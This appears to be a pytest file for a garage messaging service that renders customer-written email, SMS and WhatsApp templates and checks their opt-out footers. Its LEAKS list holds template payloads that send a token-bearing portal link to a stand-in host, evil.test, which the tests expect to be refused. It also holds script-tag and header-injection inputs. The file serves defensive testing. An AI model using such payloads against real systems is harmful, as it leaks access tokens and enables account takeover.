"""A garage's own words: used where they can be, never in the way of a message, always saying how to stop."""

from collections.abc import Callable
from dataclasses import replace
from typing import Any, get_args

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markupsafe import escape

from workers.core.accounts import Wording
from workers.core.checking import preview, problem_of, sample
from workers.core.fragments import rebuilt
from workers.core.gsm import measure
from workers.core.jobs import CheckJob, SendJob, parse_job
from workers.core.kinds import GARAGE_KINDS, Channel, MessageKind
from workers.core.messages import render_mail, render_push, render_text, template_version
from workers.core.outcomes import Done
from workers.core.payload import LOCALES, Locale
from workers.core.rendering import Draft, parts
from workers.core.sandbox import render
from workers.core.shipped import shipped
from workers.core.stopping import EXAMPLE, footer
from workers.core.values import Sites
from workers.handlers import handle

pytestmark = pytest.mark.req("D8")

PORTAL = "https://portal.autexor.be"
DMS = "https://app.autexor.be"
SITES = Sites(PORTAL, DMS, "https://portal.autexor.be/functions/v1")
EVERY = [(kind, channel) for kind, about in GARAGE_KINDS.items() for channel in about.channels]
NOORD = "11111111-0000-4000-8000-000000000001"
ACCESS = {
    "garage_id": NOORD,
    "garage_name": "Garage Noord",
    "customer_name": "Carla",
    "token": "0123ABCD4567",
    "event": None,
    "at": "2026-12-06T14:30",
}
LINK = f"{PORTAL}/activate#garage={NOORD}&token=0123ABCD4567"
SID = "HX" + "0" * 32
PHONE = {"address": "+32470123456", "name": "Carla"}
TWILIO = {
    **{"provider": "twilio", "id": NOORD, "account_sid": "AC" + "0" * 32},
    **{"secret": "0" * 32, "sender": "+32460000000"},
}
Make = Callable[..., SendJob]


def by(channel: str, wording: dict[str, Any]) -> dict[str, Any]:
    """What makes a job one of an SMS or WhatsApp in a garage's words."""
    return {"channel": channel, "wording": wording, "account": TWILIO, "recipient": PHONE}


def own(text: str, **parts: Any) -> dict[str, Any]:
    """The payload of a wording."""
    return {"version": 3, "subject": None, "text": text, "html": None, "content_sid": None, **parts}


def mail_of(text: str, html: str | None = None, subject: str = "Onderwerp") -> dict[str, Any]:
    return own(text, subject=subject, html=html)


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize(("kind", "channel"), EVERY)
def test_what_ships_reads_as_it_was_written(
    golden: Callable[[str, str], None], kind: MessageKind, channel: Channel, locale: Locale
) -> None:
    said = preview(kind, channel, locale, shipped(kind, channel, locale))
    size = measure(said.text)
    counted = f"\n({size.encoding}, {size.characters}, {size.segments})" if channel == "sms" else ""
    subject = f"Subject: {said.subject}\n\n" if said.subject else ""
    golden(f"samples/{kind}.{channel}.{locale}.txt", f"{subject}{said.text.strip()}{counted}\n")
    if channel == "email":
        golden(f"samples/{kind}.{channel}.{locale}.html", said.html)


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize(("kind", "channel"), EVERY)
def test_what_ships_could_be_saved_by_any_garage(kind: MessageKind, channel: Channel, locale: Locale) -> None:
    wording = shipped(kind, channel, locale)
    assert problem_of(kind, channel, locale, wording) is None
    if wording.html:
        values = {**dict(sample(kind, channel, locale)), "locale": locale}
        said = render(
            wording.html, values, frozenset(GARAGE_KINDS[kind].variables.model_fields), is_html=True
        )
        addresses = [str(value) for name, value in values.items() if "url" in name or name == "link"]
        assert rebuilt(said, addresses) == said.replace("\N{NO-BREAK SPACE}", "&nbsp;")


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize(("kind", "channel"), EVERY)
def test_each_message_to_a_customer_says_how_to_stop_and_none_about_access_does(
    kind: MessageKind, channel: Channel, locale: Locale
) -> None:
    stop = footer(kind, channel, locale, "Garage Noord", EXAMPLE)
    assert (stop is not None) == (GARAGE_KINDS[kind].can_stop and channel != "push")
    assert GARAGE_KINDS[kind].can_stop != GARAGE_KINDS[kind].is_about_access or kind == "provider_test"
    bare = Wording(version=1, subject="S", text="x", html="<p>x</p>", content_sid=None)
    sign = EXAMPLE if channel == "email" else "STOP"
    for wording in (shipped(kind, channel, locale), bare):
        values = sample(kind, channel, locale)
        said = parts(
            Draft(kind, channel, locale, "Garage Noord", wording, values, is_ours=True, opt_out_url=EXAMPLE)
        )
        assert (said.text.count(sign), said.html.count(f'<a href="{sign}"')) == (
            (1, channel == "email") if stop else (0, 0)
        )


def test_a_text_that_says_it_already_is_left_as_it_is(send_job: Make) -> None:
    text = f"Dag. {footer('invoice_issued', 'sms', 'nl', 'x', '')}!"
    said = render_text(send_job(**by("sms", own(text))), SITES)
    assert said.body == text
    # A garage that is merely called so does not say it.
    assert render_text(send_job(**by("sms", own("PIT STOP"))), SITES).body.count("STOP") == 2


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize("kind", [kind for kind, about in GARAGE_KINDS.items() if "sms" in about.channels])
def test_an_sms_that_ships_is_cheap(kind: MessageKind, locale: Locale) -> None:
    size = measure(preview(kind, "sms", locale, shipped(kind, "sms", locale)).text)
    assert size.encoding == "GSM-7"
    assert size.segments <= (2 if kind in ("payment_reminder", "portal_invited") else 1)


def test_a_garages_own_mail_goes_out_in_its_words(send_job: Make) -> None:
    wording = mail_of(
        "Beste {{ customer_name|upper }},\n\n{{ gross_total }} tegen {{ due_date|date('short') }}.",
        '<p>Beste {{ customer_name }}</p>{{ due_date|fact("Tegen") }}{{ portal_url|button("Portaal") }}',
        "{{ garage_name }}: {{ invoice_number }}",
    )
    mail = render_mail(send_job(wording=wording), SITES)
    assert mail.subject == "Garage Noord: 2026-00001"
    assert mail.text.startswith("Beste CARLA PEETERS-LEFÈVRE,\n\n€\xa01.234,50 tegen 22/12/2026.\n\n--\n")
    assert "<p>Beste Carla Peeters-Lefèvre</p>" in mail.html
    assert "<strong>22 december 2026</strong>" in mail.html
    assert f'<a href="{PORTAL}"' in mail.html
    assert mail.html.startswith("<!DOCTYPE html>") and "<title>Garage Noord: 2026-00001</title>" in mail.html
    assert (mail.wording_version, mail.wording_problem) == (3, None)
    assert template_version("invoice_issued", mail.wording_version) == "garage/3"


def test_a_text_alone_is_shown_as_html(send_job: Make) -> None:
    text = "Dag <b>{{ customer_name }}</b>,\nkijk op {{ portal_url }}\n\nTot gauw & dag"
    html = render_mail(send_job(wording=mail_of(text)), SITES).html
    assert "<p>Dag &lt;b&gt;Carla Peeters-Lefèvre&lt;/b&gt;,<br>kijk op" in html
    assert f'<a href="{PORTAL}">{PORTAL}</a></p>' in html
    assert "<p>Tot gauw &amp; dag</p>" in html


BROKEN = [
    (mail_of("{{ nonsense }}"), "text, line 1: unknown variable: nonsense"),
    (mail_of("x", "<script>1</script>"), "html, line 1: this tag is not allowed"),
    (mail_of("x", "<p {{ garage_name }}>x</p>"), "html, line 1: this attribute of p is not allowed"),
    (mail_of("x", "<p>{{ customer_name }}"), "html: this tag is never closed"),
    (mail_of(" "), "text: it says nothing"),
    (mail_of("x", subject="{{ nonsense"), "subject"),
    (mail_of("{% if gross_total > customer_name %}x{% endif %}"), "text"),
    (mail_of("{{ portal_url|money }}"), "text: a value cannot be used like this (TypeError)"),
    (mail_of("{{ portal_url }}" * 2000), "text: what it says is longer than"),
]


@pytest.mark.parametrize(("wording", "problem"), BROKEN, ids=[problem for _, problem in BROKEN])
def test_broken_words_are_refused_on_saving_and_never_stop_a_message(
    send_job: Make, wording: dict[str, Any], problem: str
) -> None:
    found = problem_of("invoice_issued", "email", "nl", Wording.model_validate(wording))
    assert found is not None and found.startswith(problem.split(":")[0])
    job = send_job(wording=wording)
    mail = render_mail(job, SITES)
    assert replace(mail, wording_problem=None) == render_mail(send_job(), SITES)
    assert mail.wording_problem is not None and mail.wording_problem.startswith(problem)
    assert "carla" not in mail.wording_problem.lower()
    assert template_version("invoice_issued", mail.wording_version) == "invoice_issued/2"


def test_words_that_break_only_now_and_then_are_found_by_the_samples() -> None:
    rare = "{% if structured_communication is none %}{{ invoice_number|money }}{% endif %}x"
    assert problem_of("invoice_issued", "sms", "nl", Wording.model_validate(own(rare)))
    assert problem_of("invoice_issued", "sms", "nl", Wording.model_validate(own("x"))) is None


def test_a_crash_of_ours_does_not_stop_a_message_either(
    send_job: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    def crash(*args: object, **named: object) -> str:
        raise ZeroDivisionError("carla@example.test")

    monkeypatch.setattr("workers.core.rendering.rebuilt", crash)
    mail = render_mail(send_job(wording=mail_of("x", "<p>x</p>")), SITES)
    assert mail.wording_problem == "ZeroDivisionError"
    assert mail.text.startswith("Dag Carla")


LEAKS = [
    mail_of("{{ link }}", '<img src="https://evil.test/?{{ link }}"><a href="{{ link }}">x</a>{{ link }}'),
    mail_of("{{ link }}", '<a href="https://evil.test/?{{ link }}">{{ link }}</a>'),
    mail_of("{{ link }}", '<p style="color:red">{{ link }} https://evil.test/?t={{ link }}</p>'),
    mail_of("https://evil.test/?t={{ link }}\n{{ link }}"),
    mail_of("evil.test/?{{ link }}\n{{ link }}"),
    mail_of("www.evil.test {{ link }}"),
    mail_of("{{ link }} {% if customer_name == 'Carla' %}https://evil.test{% endif %}"),
    mail_of("{{ link }}", subject="{{ link }}"),
    mail_of("Zonder de link"),
    mail_of("{% if customer_name == 'Carla' %}weg{% else %}{{ link }}{% endif %}"),
    mail_of("{{ link }}", "<p>Zonder de link</p>"),
    mail_of("{{ link|upper }}"),
]


@pytest.mark.req("P1", "D8")
@pytest.mark.parametrize("wording", LEAKS, ids=[w["text"][:20] + (w["html"] or "")[:30] for w in LEAKS])
def test_a_link_that_opens_something_is_carried_nowhere_else(send_job: Make, wording: dict[str, Any]) -> None:
    mail = render_mail(send_job(template="portal_invited", context=ACCESS, wording=wording), SITES)
    assert mail.wording_problem is not None
    assert "evil" not in mail.text + mail.html
    assert LINK in mail.text and "0123" not in mail.subject + mail.wording_problem


@pytest.mark.parametrize("name", ["www.garage-noord.be", "Garage Noord://", "info@garage.be/x"])
def test_a_garage_that_is_called_like_an_address_may_still_write(send_job: Make, name: str) -> None:
    wording = mail_of("Dag {{ customer_name }}, {{ garage_name }}:\n{{ link }}", "<p>{{ link }}</p>")
    context = {**ACCESS, "garage_name": name}
    mail = render_mail(send_job(template="portal_invited", context=context, wording=wording), SITES)
    assert (mail.wording_version, mail.wording_problem) == (3, None)
    assert str(escape(LINK)) in mail.html


def test_an_sms_is_counted_and_said_in_plain_typography(send_job: Make) -> None:
    said = render_text(send_job(**by("sms", own("“{{ customer_name }}” – {{ gross_total }}…"))), SITES)
    assert said.body.startswith('"Carla Peeters-Lefèvre" - € 1.234,50...\n')
    assert (measure(said.body).encoding, said.segments) == ("GSM-7", 1)
    assert (said.content_sid, dict(said.variables)) == (None, {})
    odd = render_text(send_job(**by("sms", own("ç" * 60))), SITES)
    assert (measure(odd.body).foreign, odd.segments) == (("ç",), 2)


def test_a_message_of_whatsapp_names_the_approved_template_and_fills_its_places(send_job: Make) -> None:
    stop = footer("invoice_issued", "whatsapp", "nl", "x", "")
    text = f"Dag {{{{ customer_name }}}},\n{{{{ gross_total }}}} {{{{ credits_number }}}}. {stop}"
    said = render_text(send_job(**by("whatsapp", own(text, content_sid=SID))), SITES)
    assert said.content_sid == SID
    assert said.variables == {"1": "Carla Peeters-Lefèvre", "2": "€\xa01.234,50", "3": "-"}
    assert said.body == f"Dag Carla Peeters-Lefèvre,\n€\xa01.234,50 . {stop}"
    assert said.segments == 1
    wording = Wording.model_validate(own(text, content_sid=SID))
    content = preview("invoice_issued", "whatsapp", "nl", wording).content_text
    assert content == f"Dag {{{{1}}}},\n{{{{2}}}} {{{{3}}}}. {stop}"


@pytest.mark.parametrize(
    "text", ["Dag {{ customer_name }}", "{% if has_payment %}Stoppen? Antwoord STOP{% endif %}"]
)
def test_an_approved_template_says_how_to_stop_and_has_no_if(send_job: Make, text: str) -> None:
    said = render_text(send_job(**by("whatsapp", own(text, content_sid=SID))), SITES)
    assert said.wording_problem is not None
    assert said.content_sid is None


def test_an_approved_template_goes_out_as_it_was_approved_and_a_name_is_no_way_to_stop(
    send_job: Make,
) -> None:
    text = "Dag {{ customer_name }}, schrijf STOP als u dit niet meer wilt."
    said = render_text(send_job(**by("whatsapp", own(text, content_sid=SID))), SITES)
    assert said.body == "Dag Carla Peeters-Lefèvre, schrijf STOP als u dit niet meer wilt."
    context = {**dict(send_job().context), "customer_name": "STOP"}
    named = own("Dag {{ customer_name }}", content_sid=SID)
    said = render_text(send_job(**by("whatsapp", named), context=context), SITES)
    assert said.wording_problem is not None and "how to stop" in said.wording_problem


def test_a_push_is_said_in_the_garages_words_without_anything_personal() -> None:
    wording = Wording.model_validate(own("Kom hem halen!", subject="Klaar"))
    said = render_push("work_ready", "nl", None, wording)
    assert (said.title, said.body, said.wording_version) == ("Klaar", "Kom hem halen!", 3)
    personal = Wording.model_validate(own("{{ customer_name }}", subject="Klaar"))
    assert render_push("work_ready", "nl", None, personal).title == "Uw wagen staat klaar"
    assert problem_of("work_ready", "push", "nl", personal) == "text, line 1: unknown variable: customer_name"


def test_what_is_written_in_the_wrong_place_is_refused() -> None:
    sms = Wording.model_validate(own("{{ link }}"))
    assert (
        problem_of("portal_password_reset", "sms", "nl", sms) == "such a message is not sent by this channel"
    )
    assert problem_of("invoice_issued", "email", "nl", Wording.model_validate(own("x")))
    assert problem_of("invoice_issued", "sms", "nl", Wording.model_validate(own("x", html="<p>x</p>")))


@pytest.mark.parametrize(
    ("wording", "verdict", "problem"),
    [
        (own("Dag {{ customer_name }}"), "live", None),
        (
            own("Dag\n{{ customer }}"),
            "refused",
            "text, line 2: unknown variable: customer (did you mean customer_name?)",
        ),
    ],
)
def test_a_worker_finds_a_saved_template_good_or_says_what_is_wrong(
    ports: Any, wording: dict[str, Any], verdict: str, problem: str | None
) -> None:
    payload = {"subject_id": NOORD, "garage_id": NOORD, "attempt": 1, "kind": "check_template"}
    job = parse_job(
        payload | {"channel": "sms", "template": "work_ready", "locale": "nl", "wording": wording}
    )
    assert isinstance(job, CheckJob)
    assert handle(job, ports) == Done({"verdict": verdict, "problem": problem})


ODD = st.text(st.sampled_from("<>&\"'{}%#\r\n\t\u2028\u202e\x00 aé🚗:;/.@"), max_size=40)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(garage=ODD, customer=ODD)
def test_names_add_no_header_no_markup_and_no_line(send_job: Make, garage: str, customer: str) -> None:
    garage, customer = f"G{garage}", f"C{customer}"
    context = {
        **{"garage_name": garage, "customer_name": customer, "plate": customer, "vehicle": garage},
        "work_order_number": "WO1",
    }
    usual = {**context, "garage_name": "G", "customer_name": "C", "plate": "P", "vehicle": "V"}
    for wording in (None, mail_of("{{ customer_name }}", "<p>{{ customer_name }}</p>", "{{ garage_name }}!")):
        odd, plain = (
            render_mail(send_job(template="work_ready", context=c, wording=wording), SITES)
            for c in (context, usual)
        )
        assert not set(odd.subject) & set("\r\n\u2028\u202e\x00")
        assert odd.wording_problem is None
        assert odd.html.count("<") == plain.html.count("<")
        assert odd.text.count("\n") == plain.text.count("\n")


@pytest.mark.parametrize("channel", get_args(Channel))
def test_the_same_code_tries_and_sends(channel: Channel, send_job: Make) -> None:
    wording = Wording.model_validate(own("Dag", subject="S" if channel in ("email", "push") else None))
    assert problem_of("invoice_issued", channel, "nl", wording) is None
    assert preview("invoice_issued", channel, "nl", wording).text.startswith("Dag")
